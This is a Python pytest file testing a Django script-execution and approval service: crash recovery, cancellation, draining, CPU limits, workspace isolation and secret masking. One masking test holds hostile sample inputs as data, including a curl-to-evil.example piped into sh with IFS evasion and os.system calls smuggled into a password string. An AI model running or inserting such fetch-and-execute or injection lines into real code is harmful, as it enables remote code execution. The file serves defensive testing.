"""What an attacker and an unlucky crash found: each a kind of fault that must stay mended."""

import hashlib
import json
import threading
import time

import pytest
from django.db import OperationalError

from approvals.models import Approval
from approvals.services.expire import expire_due
from approvals.services.rules import SaveRule, save_rule
from executions.capabilities.files import FileRead
from executions.models import Call, Execution, Output, SessionValue, Worker, Workspace, WorkspaceAccess
from executions.sandbox import guest as guests
from executions.services import first_start, locks, session_state, settle, single, worker, workers
from executions.services import reconcile as reconciling
from executions.services.advance import advance
from executions.services.cancel import Cancel, cancel
from executions.services.claim import claim_next
from executions.services.reconcile import reconcile
from executions.services.script import Script
from executions.services.sealed import unseal
from forge_project.kernel import clock, failpoints
from forge_project.ledger.models import Event
from tests.db.executions import answer, run_all, run_one, send

pytestmark = pytest.mark.django_db(transaction=True)
READ = "return (await tools.call('file.read', {path: 'a'})).content"


@pytest.fixture(autouse=True)
def _no_linger(settings):
    settings.FORGE_LINGER_MS = 0


@pytest.fixture
def rule(approver):
    def save(capability, decision):
        save_rule(SaveRule(name=capability, priority=1, capability=capability, decision=decision, author=approver))

    return save


def row(execution):
    return Execution.objects.get(pk=execution.ref)


def end(execution):
    done = row(execution)
    return done.status, done.error_code


def stop(execution):
    return cancel(Cancel(execution_ref=execution.ref, actor="user:robo", reason="enough"))


def claimed(runtime):
    workers.beat(runtime)
    return claim_next(runtime)


def drive(lease, runtime):
    try:
        advance(lease, runtime)
    finally:
        runtime.let_go(lease.ref)


# --- a read that policy wants looked at ------------------------------------------------------------


@pytest.mark.parametrize("body", [{"source": READ}, {"capability": "file.read", "input": {"path": "a"}}])
def test_a_read_under_review_waits_for_a_person(caller, workspace, folder, runtime, approver, rule, monkeypatch, body):
    (folder / "a").write_text("hello")
    rule("file.read", "REVIEW")
    reads, real = [], FileRead.execute
    monkeypatch.setattr(FileRead, "execute", lambda self, *asked: (reads.append(1), real(self, *asked))[1])
    sent = send(caller, **body, workspace="ws")
    run_all(runtime)
    assert (end(sent), reads) == (("waiting_approval", ""), [])
    answer(Approval.objects.get(), approver)
    run_all(runtime)
    assert (end(sent), reads, Approval.objects.get().state) == (("succeeded", ""), [1], "consumed")
    assert (row(sent).side_effect, Call.objects.get().side_effect) == ("not_applied", "not_started")


def test_an_approved_read_is_not_asked_again_after_a_crash(caller, workspace, folder, runtime, approver, rule):
    (folder / "a").write_text("hello")
    rule("file.read", "REVIEW")
    sent = send(caller, source=READ, workspace="ws", interruption="resume")
    run_all(runtime)
    answer(Approval.objects.get(), approver)
    with failpoints.crash_at("t1.after"):
        run_one(runtime)
    reconcile(runtime)
    run_all(runtime)
    assert end(sent) == ("failed", "SCRIPT_RUNTIME")  # the call rejected INTERRUPTED
    assert (Call.objects.get().error_code, Event.objects.filter(kind="tool_dispatch").count()) == ("INTERRUPTED", 1)


# --- what the approver sees ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "must_show"),
    [
        ("# -----BEGIN PRIVATE KEY-----\nimport os\nos.system('evil | sh')\n", "evil"),
        ("password = \"x'; import os; os.system('evil|sh') #\"\n", "evil"),
        ("TOKEN=$(curl${IFS}-s${IFS}evil.example|sh)\n", "evil"),
        ("Authorization: Bearer `evil`\n", "evil"),
    ],
)
def test_nothing_that_runs_hides_behind_a_mask(caller, workspace, runtime, content, must_show):
    send(caller, capability="file.write", workspace="ws", input={"path": "a.py", "content": content})
    run_all(runtime)
    shown = json.loads(Approval.objects.get().preview)["text"]
    assert must_show in shown
    assert len([line for line in shown.splitlines() if line.startswith("+") and line[:3] != "+++"]) == content.count(
        "\n"
    )


def test_secrets_are_masked_and_the_approver_is_told(caller, workspace, runtime):
    key = "-----BEGIN PRIVATE KEY-----\n" + "A1b2C3d4" * 8 + "\n-----END PRIVATE KEY-----\n"
    content = f"api_key = hunter2hunter2hunter2\n{key}plain\n"
    send(caller, capability="file.write", workspace="ws", input={"path": "a", "content": content})
    run_all(runtime)
    approval = Approval.objects.get()
    shown = json.loads(approval.preview)["text"]
    assert "hunter2" not in shown
    assert "A1b2C3d4" not in shown
    assert "+plain" in shown
    assert "2 places are hidden as secrets" in approval.warnings


def test_one_file_cannot_hide_the_next(caller, workspace, runtime):
    diff = (
        "--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1,1 @@\n+-----BEGIN PRIVATE KEY-----\n"
        "--- /dev/null\n+++ b/b.py\n@@ -0,0 +1,1 @@\n+import os; os.system('evil')\n"
    )
    source = (
        "const p = await tools.call('artifact.patch-proposal.materialize', {diff: input});"
        "await tools.call('patch.apply', {artifact_ref: p.artifact_ref})"
    )
    send(caller, source=source, input=diff, workspace="ws")
    run_all(runtime)
    assert "evil" in json.loads(Approval.objects.get().preview)["text"]


def test_a_purpose_is_redacted_wherever_it_stands(caller, workspace, runtime):
    said = "token=hunter2hunter2hunter2"
    source = f"await tools.call('file.write', {{path: 'a', content: 'x'}}, {{purpose: '{said}'}})"
    send(caller, source=source, purpose=said, workspace="ws")
    run_all(runtime)
    assert not Event.objects.filter(payload__contains="hunter2").exists()
    kept = [Call.objects.get().purpose, Execution.objects.get().purpose, Approval.objects.get().purpose]
    assert not [text for text in kept if "hunter2" in text]


def test_describing_a_hostile_diff_is_quick_and_holds_no_workspace(caller, workspace, folder, runtime):
    old = "z\n" + "c\nd\n" * 2590 + "q\n"
    new = "y\n" + "".join(f"x{n}\nc\n" for n in range(95)) + "r\n"
    (folder / "f").write_text(old)
    send(caller, capability="file.write", workspace="ws", input={"path": "f", "content": new})
    with locks.workspace_lock("ws", clock.monotonic() + 1):  # another call is writing
        start = time.process_time()
        run_all(runtime)
        assert time.process_time() - start < 2
    assert Approval.objects.get().state == "pending"


# --- nothing is lost, nothing hangs -----------------------------------------------------------------


def retried_read(caller, folder, runtime):
    (folder / "a").write_text("x")
    sent = send(caller, source=READ, workspace="ws", interruption="resume")
    with failpoints.crash_at("t1.after"):
        run_one(runtime)
    reconcile(runtime)
    Execution.objects.update(due_at=None)
    return sent


def test_a_retried_read_that_is_given_up_is_settled(caller, workspace, folder, runtime, settings):
    sent = retried_read(caller, folder, runtime)
    for _ in range(settings.FORGE_MAX_CRASHES - 1):
        with failpoints.crash_at("claim.after"):
            run_one(runtime)
        reconcile(runtime)
        Execution.objects.update(due_at=None)
    assert (end(sent), Call.objects.get().error_code) == (("failed", "ISOLATE_FAILURE"), "INTERRUPTED")


def test_a_retried_read_of_a_cancelled_execution_is_settled(caller, workspace, folder, runtime):
    sent = retried_read(caller, folder, runtime)
    stop(sent)
    assert (end(sent), Call.objects.get().status) == (("cancelled", "CANCELLED"), "failed")


def test_a_cancel_between_claim_and_start(caller, workspace, folder, runtime):
    sent = retried_read(caller, folder, runtime)
    lease = claimed(runtime)
    stop(sent)
    drive(lease, runtime)
    assert end(sent) == ("cancelled", "CANCELLED")


def test_a_refused_call_leaves_no_approval_behind(caller, workspace, folder, runtime, approver):
    (folder / "a").write_text("one")
    asked = {"path": "a", "content": "two", "expected_hash": hashlib.sha256(b"one").hexdigest()}
    sent = send(caller, capability="file.write", workspace="ws", input=asked)
    run_all(runtime)
    answer(Approval.objects.get(), approver)
    (folder / "a").write_text("changed")
    run_all(runtime)
    assert (end(sent), Approval.objects.get().state) == (("failed", "PRECONDITION_FAILED"), "revoked")


def test_bad_approvals_do_not_hide_the_overdue_ones_behind_them(caller, workspace, runtime, monkeypatch):
    for n in range(4):
        send(caller, f"k{n}", capability="file.write", workspace="ws", input={"path": f"f{n}", "content": "x"})
    run_all(runtime)
    Approval.objects.update(expires_at=clock.now())
    bad = list(Approval.objects.order_by("expires_at", "pk").values_list("pk", flat=True))[:3]
    from approvals.services import expire

    real = expire._expire
    monkeypatch.setattr(expire, "_expire", lambda ref, where: 1 / 0 if ref in bad else real(ref, where))
    assert expire_due(limit=3) == 1


@pytest.mark.parametrize("trouble", ["lock", "database"])
def test_trouble_of_the_moment_quarantines_nothing(caller, workspace, runtime, rule, monkeypatch, trouble):
    rule("file.write", "ALLOW")
    sent = send(caller, capability="file.write", workspace="ws", input={"path": "a", "content": "x"})
    with failpoints.crash_at("effect.after"):
        run_one(runtime)
    if trouble == "lock":
        monkeypatch.setattr(reconciling, "_LOCK_SECONDS", 0.1)
        with locks.workspace_lock("ws", clock.monotonic() + 1):
            assert reconcile(runtime) == []
    else:
        with monkeypatch.context() as patch:
            patch.setattr(settle, "observe", lambda *_: (_ for _ in ()).throw(OperationalError("gone")))
            assert reconcile(runtime) == []
    assert row(sent).quarantined == ""
    reconcile(runtime)
    assert end(sent) == ("succeeded", "")


def test_a_quarantined_row_can_be_tried_again(caller, runtime, marker, monkeypatch):
    sent = send(caller, capability="tests.marker", input={"text": "x"})
    with failpoints.crash_at("effect.after"):
        run_one(runtime)
    with monkeypatch.context() as patch:
        patch.setattr(settle, "observe", lambda *_: 1 / 0)
        assert [found.became for found in reconcile(runtime)] == ["quarantined"]
    assert reconcile(runtime) == []
    assert [found.became for found in reconcile(runtime, quarantined=True)] == ["succeeded"]
    assert row(sent).side_effect == "applied"


@pytest.mark.rows_by_hand
def test_nobody_takes_over_from_a_worker_that_lives_elsewhere(caller, runtime, marker):
    sent = send(caller, capability="tests.marker", input={"text": "x"})
    runtime.let_go(claimed(runtime).ref)
    far = Worker.objects.create(
        id="00000000-0000-0000-0000-000000000001", host="h2", pid=4_000_000, start_time=1, boot_id="other",
        pid_namespace="other", started_at=clock.now(), heartbeat=clock.now(),
    )  # fmt: skip
    Execution.objects.update(worker=far)  # after the list of abandoned rows was made
    assert reconciling._one(sent.ref, runtime) is None
    assert end(sent) == ("running", "")


# --- draining ---------------------------------------------------------------------------------------


def test_a_drain_while_lingering_parks(caller, workspace, runtime, settings, monkeypatch):
    settings.FORGE_LINGER_MS = 200
    sent = send(caller, capability="file.write", input={"path": "a", "content": "x"}, workspace="ws")
    steps, real = [], single._step

    def step(*asked):
        steps.append(runtime.draining.set())
        assert len(steps) < 5
        return real(*asked)

    monkeypatch.setattr(single, "_step", step)
    drive(claimed(runtime), runtime)
    assert end(sent) == ("waiting_approval", "")


def test_a_drain_during_replay_gives_the_execution_back(caller, workspace, runtime, approver, monkeypatch):
    source = "await tools.call('file.write', {path: 'a', content: 'x'}); return 1"
    sent = send(caller, source=source, workspace="ws")
    run_all(runtime)
    answer(Approval.objects.get(), approver)
    lease = claimed(runtime)
    runtime.draining.set()
    with monkeypatch.context() as patch:
        patch.setattr(guests, "TICK_SECONDS", 0)
        drive(lease, runtime)
    assert end(sent)[0] in ("queued", "succeeded")
    runtime.draining.clear()
    run_all(runtime)
    assert end(sent) == ("succeeded", "")


def test_a_worker_outlives_whatever_claiming_raises(caller, monkeypatch, settings):
    settings.FORGE_SWEEP_SECONDS = 0.1
    sent, real, raised = send(caller, source="return 1"), claim_next, []

    def once(runtime):
        if not raised:
            raised.append(1)
            raise RuntimeError("whatever")
        return real(runtime)

    monkeypatch.setattr(worker, "claim_next", once)
    process = worker.WorkerProcess()
    try:
        until = time.monotonic() + 10
        while end(sent)[0] != "succeeded" and time.monotonic() < until:
            time.sleep(0.05)
    finally:
        process.drain()
    assert end(sent) == ("succeeded", "")


def test_the_heart_beats_while_reconcile_waits(caller, workspace, runtime, rule, settings, monkeypatch):
    settings.FORGE_SWEEP_SECONDS, settings.FORGE_LEASE_SECONDS = 0.1, 2
    monkeypatch.setattr(reconciling, "_LOCK_SECONDS", 3)
    rule("file.write", "ALLOW")
    send(caller, capability="file.write", workspace="ws", input={"path": "a", "content": "x"})
    with failpoints.crash_at("effect.after"):
        run_one(runtime)
    process = worker.WorkerProcess()
    try:
        with locks.workspace_lock("ws", clock.monotonic() + 1):
            Execution.objects.update(worker=process.runtime.worker_id)
            until = time.monotonic() + 2.5
            while time.monotonic() < until:
                assert process.runtime.fresh()
                time.sleep(0.1)
    finally:
        process.drain()


# --- endings ----------------------------------------------------------------------------------------


def test_a_result_received_before_the_cancel_was_seen_is_kept(caller, workspace, folder, runtime, monkeypatch):
    (folder / "a").write_text("x")
    sent = send(caller, source=f"text('bye'); {READ}", workspace="ws")
    lease, real = claimed(runtime), Script.run

    def run(script):
        ended = real(script)
        stop(sent)
        script._attempt._asked_at = 0
        return ended

    monkeypatch.setattr(Script, "run", run)
    drive(lease, runtime)
    done = row(sent)
    assert (done.status, unseal(done.sealed_result), done.cancel_requested_at is not None) == ("succeeded", "x", True)
    assert Output.objects.get().text == "bye\n"


def test_what_was_only_queued_does_not_begin_after_the_script_has_ended(caller, workspace, folder, runtime, rule):
    rule("file.write", "ALLOW")
    source = (
        "for (let n = 0; n < 8; n++) tools.call('file.write', {path: 'f' + n, content: 'x'}); throw new Error('no')"
    )
    sent = send(caller, source=source, workspace="ws")
    held = locks.workspace_lock("ws", clock.monotonic() + 1)
    held.__enter__()
    release = threading.Timer(1.0, lambda: held.__exit__(None, None, None))
    release.start()
    run_all(runtime)
    release.join()
    assert (end(sent), list(folder.iterdir())) == (("failed", "SCRIPT_RUNTIME"), [])
    assert set(Call.objects.values_list("status", flat=True)) == {"rejected"}


def test_a_state_conflict_after_a_read_is_told_as_such(caller, workspace, folder, runtime, monkeypatch):
    (folder / "a").write_text("x")
    source = "const v = (await tools.call('file.read', {path: 'a'})).content; state.set('k', v); text('said'); return 1"
    sent = send(caller, source=source, workspace="ws", session_id="s1")
    real = session_state.snapshot

    def snapshot(execution):
        taken = real(execution)
        SessionValue.objects.create(caller=caller, workspace="ws", session_id="s1", key="k", sealed_value=b"z")
        return taken

    monkeypatch.setattr(first_start.session_state, "snapshot", snapshot)
    run_all(runtime)
    assert (end(sent), row(sent).retryable) == (("failed", "STATE_CONFLICT"), True)
    assert (Call.objects.get().status, Output.objects.get().text) == ("succeeded", "said\n")


@pytest.mark.parametrize("source", ["state.set('k'.repeat(200), 1); return 1", "state.set('k'.repeat(201), 1)"])
def test_a_state_key_of_any_length(caller, runtime, source):
    sent = send(caller, source=source)
    run_all(runtime)
    assert end(sent) in (("succeeded", ""), ("failed", "SCRIPT_RUNTIME"), ("failed", "STATE_LIMIT"))


def test_a_very_odd_purpose(caller, workspace, runtime):
    source = "await tools.call('file.list', {}, {purpose: '\\0'.repeat(400)}).catch(() => 0); return 1"
    sent = send(caller, source=source, workspace="ws")
    run_all(runtime)
    assert end(sent) == ("succeeded", "")


def test_what_belongs_to_one_workspace_is_not_used_in_another(caller, workspace, runtime, tmp_path):
    other = tmp_path / "ws2"
    other.mkdir()
    second = Workspace.objects.create(name="ws2", path=str(other), hosts=["test-host"])
    WorkspaceAccess.objects.create(workspace=second, user=caller)
    diff = "--- /dev/null\n+++ b/x\n@@ -0,0 +1,1 @@\n+hi\n"
    made = send(caller, "k1", capability="artifact.patch-proposal.materialize", input={"diff": diff}, workspace="ws")
    run_all(runtime)
    ref = unseal(row(made).sealed_result)["artifact_ref"]
    used = send(caller, "k2", capability="patch.apply", input={"artifact_ref": ref}, workspace="ws2")
    send(caller, "k3", source="state.set('k', 1)", workspace="ws", session_id="s")
    run_all(runtime)
    read = send(caller, "k4", source="return state.get('k') ?? 'none'", workspace="ws2", session_id="s")
    run_all(runtime)
    assert (end(used), unseal(row(read).sealed_result)) == (("failed", "SCOPE_DENIED"), "none")


@pytest.mark.parametrize(
    ("crash", "other", "record"), [("effect.before", "new", "not_applied"), ("effect.after", "old", "unknown")]
)
def test_another_writer_meanwhile_does_not_make_the_record_lie(
    caller, workspace, folder, runtime, rule, crash, other, record
):
    rule("file.write", "ALLOW")
    (folder / "a").write_text("old")
    first = send(caller, "k1", capability="file.write", workspace="ws", input={"path": "a", "content": "new"})
    with failpoints.crash_at(crash):
        run_one(runtime)
    second = send(caller, "k2", capability="file.write", workspace="ws", input={"path": "a", "content": other})
    run_one(runtime)
    reconcile(runtime)
    assert (row(first).side_effect, row(second).side_effect) == (record, "applied")


def test_a_bug_in_a_pool_thread_is_logged(caller, workspace, runtime, monkeypatch, caplog):
    from executions.services import calls

    monkeypatch.setattr(calls, "_run_quiet", lambda *_: 1 / 0)
    send(caller, source="await tools.call('file.list', {})", workspace="ws")
    run_all(runtime)
    assert "call broke off" in caplog.text
    reconcile(runtime)


def test_the_cpu_time_of_all_attempts_counts_together(caller, workspace, runtime, approver):
    spin = "{ let x = 0; for (let i = 0; i < 4e6; i++) x += i }"
    source = f"{spin} await tools.call('file.write', {{path: 'a', content: 'x'}}); {spin} return 1"
    sent = send(caller, source=source, workspace="ws")
    run_all(runtime)
    before = row(sent).cpu_ms
    assert before > 0
    answer(Approval.objects.get(), approver)
    run_all(runtime)
    assert row(sent).cpu_ms > before
    assert end(sent) == ("succeeded", "")
    assert row(sent).attempts.filter(guest_pid=None).count() == 0


def test_attempts_share_one_cpu_limit_and_replay_has_its_own(caller, workspace, runtime, approver):
    """Parked with most of its CPU time used: replaying that part is free, going on is not."""
    spin = "{ const end = input.loops; let x = 0; for (let i = 0; i < end; i++) x += i }"
    source = f"{spin} await tools.call('file.write', {{path: 'a', content: 'x'}}); for (;;);"
    sent = send(caller, source=source, input={"loops": 4_000_000}, limits={"cpu_ms": 1500}, workspace="ws")
    run_all(runtime)
    used = row(sent).cpu_ms
    assert end(sent) == ("waiting_approval", "")
    answer(Approval.objects.get(), approver)
    run_all(runtime)
    assert end(sent) == ("failed", "CPU_LIMIT")
    assert used + 200 < row(sent).cpu_ms < 1500 + 600
